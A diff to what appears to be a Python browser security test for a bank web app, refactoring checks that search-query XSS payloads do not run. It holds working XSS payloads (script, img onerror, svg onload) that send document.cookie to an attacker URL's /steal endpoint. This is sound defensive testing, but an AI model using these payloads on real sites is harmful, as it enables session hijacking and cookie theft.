@@ -120,22 +120,34 @@ def legitimate_transfer(bank: RunningBank, tab: Remote) -> None:
     )
 
 
+def xss_script(marker: str, attacker_url: str) -> str:
+    """What an injected script does: mark the page (seen at once, whatever the timing) and send cookies home."""
+    return (
+        f"top.document.documentElement.dataset.xss='{marker}';"
+        f"new Image().src='{attacker_url}/steal?xss={marker}&c='+encodeURIComponent(document.cookie)"
+    )
+
+
 def script_payloads(marker: str, attacker_url: str) -> list[str]:
-    beacon = f"new Image().src='{attacker_url}/steal?xss={marker}&c='+encodeURIComponent(document.cookie)"
+    script = xss_script(marker, attacker_url)
     return [
-        f"<script>{beacon}</script>",
-        f'<img src=x onerror="{beacon}">',
-        f'</b><svg onload="{beacon}">',
+        f"<script>{script}</script>",
+        f'<img src=x onerror="{script}">',
+        f'</b><svg onload="{script}">',
     ]
 
 
 def attack_search(bank: RunningBank, tab: Remote, attacker, payloads: list[str]) -> None:
-    """Alice clicks links to the search page with scripts in the query; none may send anything home."""
+    """Alice clicks links to the search page with scripts in the query; none may run."""
     for payload in payloads:
         seen = len(attacker.loot)
         click_forged_link(tab, attacker, f"{bank.url}/search?{urlencode({'q': payload})}")
+        # The page's load event waits for its scripts, images and frames, so a mark would be there by now.
+        ran = tab.evaluate("document.documentElement.dataset.xss || null")
         stolen = wait_for_loot(attacker, seen, timeout=NOTHING_CAME_SECONDS)
-        assert not stolen, f"the query {payload!r} ran as a script in the search page and sent Alice's cookies away"
+        assert ran is None and not stolen, f"the query {payload!r} ran as a script in the search page" + (
+            " and sent Alice's cookies to the attacker" if stolen else ""
+        )
 
 
 def shown_as_typed(bank: RunningBank, tab: Remote, query: str) -> None:
